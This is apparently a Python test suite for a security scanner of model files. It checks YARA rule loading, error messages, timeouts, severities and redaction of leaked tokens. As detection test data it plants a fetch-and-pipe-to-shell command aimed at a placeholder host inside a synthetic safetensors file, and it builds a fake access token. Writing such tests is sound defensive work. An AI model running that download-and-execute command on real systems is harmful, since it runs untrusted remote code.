"""YARA rules on the command line: where they come from, what goes wrong, what they see, and one read for all."""

import hashlib
import json
import os
import pathlib
import struct
import subprocess
import tempfile
import unittest

import support

PAYLOAD = b"x curl -fsSL https://example.invalid/a | sh y"


def scan(*arguments):
    return subprocess.run([support.BINARY, "scan", *map(str, arguments)], capture_output=True, text=True, check=False)


def safetensors(data):
    header = json.dumps({"a": {"dtype": "U8", "shape": [len(data)], "data_offsets": [0, len(data)]}}).encode()
    header += b" " * (-len(header) % 8)
    return struct.pack("<Q", len(header)) + header + data


class Yara(unittest.TestCase):
    def setUp(self):
        self.temporary = tempfile.TemporaryDirectory()
        self.folder = pathlib.Path(self.temporary.name)
        self.addCleanup(self.temporary.cleanup)

    def file(self, name, data):
        path = self.folder / name
        path.write_bytes(data if isinstance(data, bytes) else data.encode())
        return path

    def test_rules_of_the_user_match_while_confined_and_with_jobs(self):
        rules = self.file("own.yar", 'rule own : tag { meta: severity = "low" strings: $a = "bluebird" condition: $a }')
        for number in range(8):
            self.file(f"{number}.pkl", b"\x80\x04\x8c\x08bluebird.")
        run = scan("--yara", rules, "-f", "json", "-j", 4, *(self.folder / f"{n}.pkl" for n in range(8)))
        report = json.loads(run.stdout)
        found = [finding for finding in report["findings"] if finding["rule_id"] == "YARA-USER-001"]
        self.assertEqual([finding["severity"] for finding in found], ["low"] * 8)
        evidence = found[0]["evidence"]
        self.assertEqual((evidence["rule"], evidence["tags"], evidence["strings"]), ("own", ["tag"], ["$a at 0x4, 8 bytes"]))
        self.assertEqual(run.returncode, 0)
        plain = json.loads(scan("-f", "json", self.folder / "0.pkl").stdout)
        self.assertNotEqual(plain["tool"]["rules_digest"], report["tool"]["rules_digest"])

    def test_errors_name_file_and_line_and_exit_with_4(self):
        target = self.file("a.pkl", b"\x80\x04}.")
        broken = self.file("broken.yar", "rule a {\n  condition:\n    nonsense\n}\n")
        run = scan("--yara", broken, target)
        self.assertEqual(run.returncode, 4)
        self.assertIn(f"{broken}:3: ", run.stderr)
        for name, text, place in (("open.yar", "rule a {\n  condition:\n    true\n", ":3: "),
                                  ("absent.yar", '// ours\nimport "magic"\nrule a { condition: true }\n', ":2: the module"),
                                  ("away.yar", 'include "../b.yar"\nrule a { condition: true }\n', ':1: "../b.yar" cannot')):
            path = self.file(name, text)
            self.assertIn(f"{path}{place}", scan("--yara", path, target).stderr)
        part = self.file("part.yar", "rule a {\n  condition:\n    nothing\n}")
        whole = self.file("whole.yar", 'include "part.yar"')
        self.assertIn(f"{os.path.realpath(part)}:3: ", scan("--yara", whole, target).stderr)
        self.assertEqual(scan("--yara", self.folder / "missing.yar", target).returncode, 4)
        self.assertEqual(scan("--yara-scope", "some", target).returncode, 4)
        empty = self.file("empty.yar", "")
        self.assertIn(f"{empty}: there is no rule", scan("--yara", empty, target).stderr)
        compiled = self.file("compiled.yar", b"YARA\x08\x14\x00\x00")
        self.assertIn("never loaded", scan("--yara", compiled, target).stderr)

    def test_weights_are_matched_when_all_bytes_are_wanted_and_hashed_in_the_same_go(self):
        data = bytearray(os.urandom(9_000_000))
        data[8_388_000:8_388_000 + len(PAYLOAD)] = PAYLOAD
        path = self.file("model.safetensors", safetensors(bytes(data)))
        self.assertEqual(scan(path).returncode, 0)
        report = json.loads(scan("--yara-scope", "all", "--hash", "-f", "json", path).stdout)
        self.assertEqual([finding["rule_id"] for finding in report["findings"]], ["YARA-PACK-001"])
        self.assertEqual(report["roots"][0]["sha256"], hashlib.sha256(path.read_bytes()).hexdigest())

    def test_no_report_repeats_a_leaked_key(self):
        key = "hf_" + "QwErTyUiOpAsDfGhJkLzXcVbNmQwErTyUi"
        path = self.file("config.json", json.dumps({"token": key}).encode())
        for form in ("text", "json", "jsonl", "sarif", "html", "junit", "gitlab", "markdown", "cyclonedx"):
            with self.subTest(form=form):
                run = scan("-f", form, path)
                self.assertEqual(run.returncode, 1, run.stderr)
                self.assertNotIn(key, run.stdout)
                # A hex view breaks it into lines of 16 bytes.
                self.assertNotIn(key[:8], run.stdout)

    def test_a_scan_that_runs_out_of_time_is_incomplete(self):
        slow = self.file("slow.yar", "rule slow { condition: for all i in (0..100000000) : (uint8(i % 100) == 0) }")
        run = scan("--yara", slow, "--timeout", "1", "-f", "json", self.file("zeros.bin", b"\x80\x04}." + bytes(200)))
        report = json.loads(run.stdout)
        self.assertNotEqual(report["verdict"], "clean")
        self.assertTrue(any("time" in error["message"] for error in report["errors"]), report["errors"])

    def test_a_wide_gap_in_a_large_file_is_listed_and_incomplete(self):
        rules = self.file("gap.yar", "rule gap { strings: $a = { 61 62 63 64 [300-400] 65 66 67 68 } condition: $a }")
        path = self.file("big.txt", b"abcd\n" * (66 << 18))
        run = scan("--yara", rules, "-f", "json", path)
        self.assertEqual(run.returncode, 2, run.stdout[-500:])
        self.assertTrue(any("not judged: gap" in error["message"] for error in json.loads(run.stdout)["errors"]))

    def test_rules_of_one_name_in_several_files_all_count(self):
        for first, second in (("critical", "info"), ("info", "CRITICAL")):
            for name, severity in (("a", first), ("b", second)):
                path = self.folder / "two" / f"{name}.yar"
                path.parent.mkdir(exist_ok=True)
                path.write_text(f'rule one {{ meta: severity = "{severity}" strings: $a = "weights" condition: $a }}')
            report = json.loads(scan("--yara", self.folder / "two", "-f", "json", self.file("a.pkl", support.CLEAN)).stdout)
            self.assertEqual(sorted(one["severity"] for one in report["findings"]), ["critical", "info"])

    def test_a_severity_that_is_not_known_is_noted(self):
        rules = self.file("odd.yar", 'rule a { meta: severity = 90 strings: $a = "weights" condition: $a }')
        report = json.loads(scan("--yara", rules, "-f", "json", self.file("a.pkl", support.CLEAN)).stdout)
        self.assertEqual([one["severity"] for one in report["findings"]], ["medium"])
        self.assertEqual([note["kind"] for note in report["notes"]], ["rule_severity"])

    def test_the_pack_is_listed(self):
        run = subprocess.run([support.BINARY, "rules", "yara"], capture_output=True, text=True, check=False)
        self.assertEqual(run.returncode, 0)
        self.assertIn("linux_program", run.stdout)


if __name__ == "__main__":
    unittest.main()
